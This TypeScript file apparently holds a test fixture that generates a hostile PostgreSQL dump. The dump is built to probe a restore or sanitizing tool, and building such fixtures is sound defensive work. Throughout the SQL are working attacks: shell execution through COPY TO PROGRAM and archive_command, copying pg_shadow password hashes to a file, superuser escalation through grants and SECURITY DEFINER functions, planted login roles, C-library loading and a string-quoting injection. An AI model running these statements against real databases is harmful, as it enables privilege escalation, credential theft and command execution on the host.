/** A dump whose code tries, wherever the server may call it, to leave files in `folder` and to make the role `victim` a superuser. */
export function hostileDump(folder: string, superuser: string): string {
  return `
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SELECT pg_catalog.set_config('search_path', '', false);
SET check_function_bodies = false;

CREATE FUNCTION public.attack(place text) RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE file text := '${folder}/trace-' || place;
BEGIN
  BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ' || quote_literal('cat >' || quote_literal(file)); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'COPY (SELECT * FROM pg_catalog.pg_shadow) TO ' || quote_literal(file || '-shadow'); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'ALTER ROLE victim SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'GRANT ${superuser} TO victim'; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $$;
-- An index, a generated column and a constant need a function that says it is immutable.
CREATE FUNCTION public.attack_quietly(place text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN public.attack(place); END $$;
CREATE FUNCTION public.attack_row() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM public.attack('trigger'); RETURN NEW; END $$;
CREATE FUNCTION public.attack_command() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM public.attack('event-trigger'); END $$;
CREATE FUNCTION public.attack_options(text[], oid) RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM public.attack('validator'); END $$;
CREATE FUNCTION public.attack_secretly() RETURNS boolean LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN public.attack('definer'); END $$;
ALTER FUNCTION public.attack_secretly() OWNER TO ${superuser};

CREATE EVENT TRIGGER early ON ddl_command_start EXECUTE FUNCTION public.attack_command();
CREATE EVENT TRIGGER late ON ddl_command_end EXECUTE FUNCTION public.attack_command();
COMMENT ON EVENT TRIGGER late IS 'x';

CREATE DOMAIN public.poisoned AS text CONSTRAINT c CHECK (public.attack('domain'));
CREATE TABLE public.checked (a integer CONSTRAINT c CHECK (public.attack('check')), b boolean DEFAULT public.attack('default'),
  g boolean GENERATED ALWAYS AS (public.attack_quietly('generated')) STORED, d public.poisoned);
CREATE TABLE public.triggered (a integer);
CREATE TRIGGER t BEFORE INSERT ON public.triggered FOR EACH ROW EXECUTE FUNCTION public.attack_row();
CREATE RULE r AS ON INSERT TO public.triggered DO ALSO SELECT public.attack('rule');
CREATE MATERIALIZED VIEW public.seen AS SELECT public.attack('matview') WITH NO DATA;
CREATE VIEW public.shown AS SELECT public.attack('view');
CREATE SEQUENCE public.s;

COPY public.checked (a, d) FROM stdin;
1	x
\\.
COPY public.triggered (a) FROM stdin;
1
\\.
INSERT INTO public.triggered VALUES (2);
SELECT * FROM public.shown;
SELECT public.attack_secretly();
SELECT pg_catalog.setval('public.s', (SELECT 1 WHERE public.attack('setval')), true);
SELECT pg_catalog.set_config('search_path', CASE WHEN public.attack('set-config') THEN '' END, false);

DO $$ BEGIN PERFORM public.attack('do'); END $$;
SET ROLE ${superuser};
SELECT public.attack('set-role');
SET SESSION AUTHORIZATION ${superuser};
SELECT public.attack('set-session');
ALTER TABLE public.checked ADD COLUMN e boolean DEFAULT public.attack('add-column');
RESET SESSION AUTHORIZATION;
SET SESSION AUTHORIZATION DEFAULT;
GRANT ${superuser} TO victim;
GRANT pg_execute_server_program TO victim WITH ADMIN OPTION;
ALTER ROLE victim SUPERUSER;
ALTER ROLE victim WITH SUPERUSER PASSWORD 'x';
CREATE ROLE planted SUPERUSER LOGIN PASSWORD 'x';
ALTER DATABASE postgres SET search_path = public;
ALTER SYSTEM SET archive_command = 'touch ${folder}/trace-system';
COMMENT ON ROLE victim IS 'was here';
COMMENT ON DATABASE postgres IS 'was here';
GRANT CREATE ON DATABASE postgres TO victim;
COPY public.triggered FROM PROGRAM 'touch ${folder}/trace-from-program';
COPY (SELECT public.attack('copy-out')) TO stdout;
CREATE /* x */ TABLE public.twice (a integer); SELECT public.attack('two');

-- What looks as if it were for the admin.
ALTER TABLE public.checked ADD COLUMN f boolean DEFAULT public.attack('owner'), OWNER TO ${superuser};
ALTER TABLE public.checked VALIDATE CONSTRAINT c, OWNER TO ${superuser};
CREATE FUNCTION public.a() RETURNS boolean LANGUAGE 'c' AS '$libdir/x', 'y';
CREATE FUNCTION public.b() RETURNS boolean LANGUAGE "C" AS 'SELECT public.attack(''b'')';
CREATE FUNCTION public.d() RETURNS boolean LANGUAGE c AS '/tmp/x.so', 'y';
CREATE FUNCTION public.e() RETURNS boolean LANGUAGE plpgsql AS $f$ BEGIN RETURN public.attack('e'); END $f$; -- LANGUAGE c AS 'x';
CREATE FUNCTION public.read(text) RETURNS text LANGUAGE internal AS 'pg_read_file_all';
CREATE AGGREGATE public.g(integer) (SFUNC = int4pl, STYPE = internal, MSTYPE = public.poisoned, MINITCOND = 'x', MSFUNC = int4pl, MINVFUNC = int4pl);
CREATE OR REPLACE FUNCTION public.text_language() RETURNS text LANGUAGE sql AS $$ CREATE EXTENSION dblink; SELECT 'x' $$;
CREATE PUBLICATION p FOR TABLE public.checked WHERE (public.attack('publication'));
SET SESSION standard_conforming_strings TO off;
COMMENT ON TABLE public.checked IS 'a\\'; SELECT public.attack('comment'); --';
SET SESSION standard_conforming_strings TO on;

CREATE INDEX i ON public.checked USING btree (public.attack_quietly('index' || a));
CREATE INDEX j ON public.checked USING btree (a) WHERE public.attack_quietly('predicate' || a);
ALTER TABLE ONLY public.checked ADD CONSTRAINT x EXCLUDE USING btree (public.attack_quietly('exclude' || a) WITH =);
ALTER TABLE public.checked ADD CONSTRAINT y CHECK (public.attack('constraint'));
CREATE STATISTICS public.st ON a, (public.attack_quietly('statistics')) FROM public.checked;
CREATE POLICY pol ON public.checked USING (public.attack('policy'));
ALTER TABLE public.checked ENABLE ROW LEVEL SECURITY;
ALTER TABLE public.checked FORCE ROW LEVEL SECURITY;
REFRESH MATERIALIZED VIEW public.seen;
ALTER DEFAULT PRIVILEGES FOR ROLE ${superuser} GRANT ALL ON TABLES TO victim;
GRANT ALL ON TABLE public.checked TO victim;
SET SESSION AUTHORIZATION victim;
GRANT SELECT ON TABLE public.checked TO PUBLIC;
`
}
